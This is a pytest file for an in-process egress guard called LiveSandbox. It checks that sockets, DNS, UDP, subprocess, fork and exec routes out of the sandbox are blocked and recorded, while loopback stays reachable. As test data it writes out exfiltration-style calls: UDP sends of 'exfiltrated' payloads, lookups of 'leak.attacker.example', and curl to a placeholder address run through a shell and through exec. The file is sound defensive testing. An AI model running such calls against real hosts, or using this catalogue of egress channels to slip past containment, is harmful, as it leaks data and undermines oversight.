"""The in-process guard of LiveSandbox: every way out that is not a mocked client is
refused, and each refusal is a Decision (outcome blocked, a rule naming the channel)
and an egress finding, even when the flow code swallows the exception. Loopback and
the sandbox's own servers stay reachable."""

from __future__ import annotations

import _socket
import asyncio
import http.client
import os
import pty
import socket
import ssl
import subprocess
import sys
import textwrap
import threading
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import requests
from workspaces import HOST, build, policy, service

from harness.interception import EgressBlocked
from harness.live import HttpSandbox, LiveSandbox

FAR = "203.0.113.9"  # TEST-NET-3: a real address that no test can reach
FAR6 = "2001:db8::9"


@pytest.fixture
def live() -> Iterator[LiveSandbox]:
    workspace = build([service()], [policy(["svc.read"], [("GET", "/items")])])
    with LiveSandbox(workspace, name="t") as sandbox:
        yield sandbox


def _swallowed(attempt: Callable[[], object]) -> BaseException | None:
    """Run flow code that catches whatever goes wrong, as careless code does."""
    try:
        attempt()
    except Exception as error:
        return error
    return None


async def _asyncio_connection() -> None:
    await asyncio.open_connection(FAR, 443)


async def _asyncio_lookup() -> None:
    await asyncio.open_connection("api.real-vendor.example", 443)


async def _asyncio_datagram() -> None:
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(
        asyncio.DatagramProtocol, remote_addr=(FAR, 53)
    )
    transport.close()


async def _asyncio_sock_connect() -> None:
    loop = asyncio.get_running_loop()
    with socket.socket() as tcp:
        tcp.setblocking(False)
        await loop.sock_connect(tcp, (FAR, 80))


async def _asyncio_subprocess() -> None:
    process = await asyncio.create_subprocess_exec("curl", "-s", f"http://{FAR}/")
    await process.wait()


def _udp_sendto() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"exfiltrated", (FAR, 53))


def _udp_sendmsg() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendmsg([b"exfiltrated"], [], 0, (FAR, 53))


def _udp_sendto_with_flags() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"exfiltrated", 0, ("leak.attacker.example", 53))


def _udp_connected_send() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.connect((FAR, 514))
        udp.send(b"exfiltrated")


def _tcp_fast_open() -> None:
    with socket.socket() as tcp:
        tcp.sendto(b"GET / HTTP/1.1\r\n\r\n", socket.MSG_FASTOPEN, (FAR, 80))


def _socket_from_a_descriptor() -> None:
    with (
        socket.socket() as original,
        socket.fromfd(original.fileno(), socket.AF_INET, socket.SOCK_STREAM) as copy,
    ):
        copy.connect(("api.real-vendor.example", 443))


def _udp_broadcast() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        udp.sendto(b"hello, network", ("<broadcast>", 9))


def _raw_socket_connect() -> None:
    with socket.socket() as tcp:
        tcp.settimeout(1)
        tcp.connect((FAR, 80))


def _raw_socket_connect_by_name() -> None:
    with socket.socket() as tcp:
        tcp.connect(("api.real-vendor.example", 80))


def _connect_ex() -> None:
    with socket.socket(socket.AF_INET6) as tcp:
        tcp.connect_ex((FAR6, 443))


def _c_socket() -> None:
    raw = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    try:
        raw.connect((FAR, 443))
    finally:
        raw.close()


def _c_socket_by_name() -> None:
    raw = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    try:
        raw.connect(("api.real-vendor.example", 443))
    finally:
        raw.close()


def _ssl_wrapped() -> None:
    context = ssl.create_default_context()
    with context.wrap_socket(socket.socket(), server_hostname="api.real-vendor.example") as tls:
        tls.connect((FAR, 443))


def _http_client() -> None:
    connection = http.client.HTTPSConnection(FAR, timeout=1)
    connection.request("GET", "/v1/me")


def _curl() -> None:
    subprocess.run(["curl", "-s", "-m", "2", f"http://{FAR}/"], check=False)


def _shell() -> None:
    subprocess.run(f"curl -s -m 2 http://{FAR}/", shell=True, check=False)


def _spawn() -> None:
    os.spawnv(os.P_WAIT, "/bin/true", ["true"])


def _posix_spawn() -> None:
    os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)


def _posix_spawnp() -> None:
    os.waitpid(os.posix_spawnp("true", ["true"], dict(os.environ)), 0)


def _fork() -> None:
    if os.fork() == 0:
        os._exit(0)


def _fork_exec() -> None:
    import multiprocessing.util

    multiprocessing.util.spawnv_passfds("/bin/true", ["true"], ())


# (the flow code, the rule that must block it, the host its decision names)
ATTEMPTS: dict[str, tuple[Callable[[], object], str, str]] = {
    "urllib": (
        lambda: urllib.request.urlopen("https://api.real-vendor.example/v1/me", timeout=1),
        "egress.dns",
        "api.real-vendor.example",
    ),
    "http.client": (_http_client, "egress.tcp", FAR),
    "raw socket": (_raw_socket_connect, "egress.tcp", FAR),
    "raw socket, by name": (_raw_socket_connect_by_name, "egress.tcp", "api.real-vendor.example"),
    "connect_ex, IPv6": (_connect_ex, "egress.tcp", f"[{FAR6}]"),
    "create_connection": (
        lambda: socket.create_connection((FAR, 443), timeout=1),
        "egress.tcp",
        FAR,
    ),
    "asyncio connection": (lambda: asyncio.run(_asyncio_connection()), "egress.tcp", FAR),
    "asyncio lookup": (
        lambda: asyncio.run(_asyncio_lookup()),
        "egress.dns",
        "api.real-vendor.example",
    ),
    "asyncio datagram endpoint": (lambda: asyncio.run(_asyncio_datagram()), "egress.udp", FAR),
    "asyncio sock_connect": (lambda: asyncio.run(_asyncio_sock_connect()), "egress.tcp", FAR),
    "asyncio subprocess": (lambda: asyncio.run(_asyncio_subprocess()), "egress.process", "curl"),
    "TCP fast open": (_tcp_fast_open, "egress.tcp", FAR),
    "a socket from a descriptor": (
        _socket_from_a_descriptor,
        "egress.tcp",
        "api.real-vendor.example",
    ),
    "_socket module": (_c_socket, "egress.tcp", FAR),
    "_socket module, by name": (_c_socket_by_name, "egress.tcp", "api.real-vendor.example"),
    "ssl wrapping": (_ssl_wrapped, "egress.tcp", FAR),
    "gethostbyname": (
        lambda: socket.gethostbyname("api.real-vendor.example"),
        "egress.dns",
        "api.real-vendor.example",
    ),
    "gethostbyname_ex": (
        lambda: socket.gethostbyname_ex("leak.attacker.example"),
        "egress.dns",
        "leak.attacker.example",
    ),
    "_socket.gethostbyname": (
        lambda: _socket.gethostbyname("leak.attacker.example"),
        "egress.dns",
        "leak.attacker.example",
    ),
    "getaddrinfo, bytes": (
        lambda: socket.getaddrinfo(b"leak.attacker.example", 443),
        "egress.dns",
        "leak.attacker.example",
    ),
    "getaddrinfo, keywords": (
        lambda: socket.getaddrinfo(host="leak.attacker.example", port=None),
        "egress.dns",
        "leak.attacker.example",
    ),
    "gethostbyaddr": (lambda: socket.gethostbyaddr(FAR), "egress.dns", FAR),
    "getnameinfo": (lambda: socket.getnameinfo((FAR, 443), 0), "egress.dns", FAR),
    "UDP sendto": (_udp_sendto, "egress.udp", FAR),
    "UDP sendmsg": (_udp_sendmsg, "egress.udp", FAR),
    "UDP sendto with flags, by name": (
        _udp_sendto_with_flags,
        "egress.udp",
        "leak.attacker.example",
    ),
    "UDP connect, then send": (_udp_connected_send, "egress.udp", FAR),
    "UDP broadcast": (_udp_broadcast, "egress.udp", "<broadcast>"),
    "curl": (_curl, "egress.process", "curl"),
    "a shell running curl": (_shell, "egress.process", "curl"),
    "os.system": (lambda: os.system(f"curl -s -m 2 http://{FAR}/"), "egress.process", "curl"),
    "os.popen": (lambda: os.popen("curl -s http://203.0.113.9/").read(), "egress.process", "curl"),
    "os.spawnv": (_spawn, "egress.process", "(fork)"),
    "os.posix_spawn": (_posix_spawn, "egress.process", "true"),
    "os.posix_spawnp": (_posix_spawnp, "egress.process", "true"),
    "os.fork": (_fork, "egress.process", "(fork)"),
    "pty.spawn": (lambda: pty.spawn(["curl", f"http://{FAR}/"]), "egress.process", "curl"),
    "_posixsubprocess.fork_exec": (_fork_exec, "egress.process", "true"),
}


@pytest.mark.parametrize("name", ATTEMPTS)
def test_every_way_out_is_refused_recorded_and_fails_the_verdict(
    live: LiveSandbox, name: str
) -> None:
    attempt, rule, host = ATTEMPTS[name]
    bot = live.binding("bot@prod")
    assert requests.get(f"https://{HOST}/items", headers=bot.headers).status_code == 200
    error = _swallowed(attempt)
    assert isinstance(error, (EgressBlocked, urllib.error.URLError)), repr(error)
    blocked = [d for d in live.decisions if d.outcome == "blocked"]
    assert [(d.rule, d.host) for d in blocked] == [(rule, host)]
    with pytest.raises(AssertionError) as failed:
        live.assert_least_privilege()
    assert "  egress            t step 2 (call 2)" in str(failed.value).splitlines()


def test_a_refusal_names_the_channel_and_is_a_connection_error(live: LiveSandbox) -> None:
    with pytest.raises(ConnectionError) as refused:
        socket.gethostbyname("leak.attacker.example")
    assert isinstance(refused.value, EgressBlocked)
    assert str(refused.value) == (
        "connector-harness sandbox blocked a DNS lookup of leak.attacker.example: the sandbox "
        "resolves no names; its services are reached through requests, httpx or its loopback "
        "servers"
    )
    decision = live.decisions[-1]
    assert (decision.method, decision.host, decision.path, decision.binding) == (
        "RESOLVE",
        "leak.attacker.example",
        "",
        "",
    )


def test_refusals_in_other_threads_are_recorded_too(live: LiveSandbox) -> None:
    errors: list[BaseException | None] = []
    worker = threading.Thread(target=lambda: errors.append(_swallowed(_udp_sendto)))
    worker.start()
    worker.join()
    assert isinstance(errors[0], EgressBlocked)
    assert [(d.rule, d.host, d.path) for d in live.decisions] == [("egress.udp", FAR, ":53")]


def test_loopback_and_the_sandboxs_own_servers_stay_reachable(live: LiveSandbox) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        with socket.create_connection(("localhost", port), timeout=1):
            pass
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"x", ("127.0.0.1", port))
    assert socket.getaddrinfo("localhost", 80)
    assert socket.gethostbyname("localhost") == "127.0.0.1"
    served = HttpSandbox(live.workspace)
    with served:
        bot = served.binding("bot@prod")
        request = urllib.request.Request(served.base_urls["svc"] + "/items", headers=bot.headers)
        with urllib.request.urlopen(request, timeout=5) as answer:
            assert answer.status == 200
    assert [d.outcome for d in live.decisions] == []  # nothing was refused


def test_the_guard_is_gone_after_the_sandbox(live: LiveSandbox) -> None:
    live.__exit__(None, None, None)
    assert socket.getaddrinfo("localhost", 80)
    assert subprocess.run(["true"], check=False).returncode == 0
    assert live.decisions == []


EXEC = """
import os, sys
sys.path.insert(0, {tests!r})
from workspaces import build, policy, service
from harness.live import LiveSandbox

workspace = build([service()], [policy(["svc.read"], [("GET", "/items")])])
with LiveSandbox(workspace) as live:
    try:
        os.execv("/usr/bin/curl", ["curl", "-s", "-m", "2", "http://203.0.113.9/"])
    except Exception as error:
        print(type(error).__name__)
    print([(d.rule, d.host) for d in live.decisions])
"""


def test_exec_is_refused_and_the_process_goes_on() -> None:
    tests = str(Path(__file__).resolve().parents[1])
    run = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(EXEC.format(tests=tests))],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert run.stdout.splitlines() == ["EgressBlocked", "[('egress.process', 'curl')]"], run.stderr
